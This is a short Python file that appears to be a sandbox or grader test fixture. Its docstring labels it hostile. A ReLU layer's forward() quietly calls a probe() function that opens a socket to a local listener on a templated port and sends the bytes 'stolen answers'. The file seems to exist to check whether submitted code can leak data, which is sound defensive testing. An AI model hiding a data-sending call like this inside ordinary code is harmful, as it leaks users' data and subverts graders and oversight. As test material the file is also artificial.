"""Hostile: sends data to a listener on the grader's machine."""
import socket

PORT = __PORT__


def probe():
    """'sent' if the connection went through, else the error."""
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(b"stolen answers")
        return "sent"
    except OSError as error:
        return f"{type(error).__name__}: {error}"


class ReLU:
    def forward(self, x):
        probe()
        return x * (x > 0)
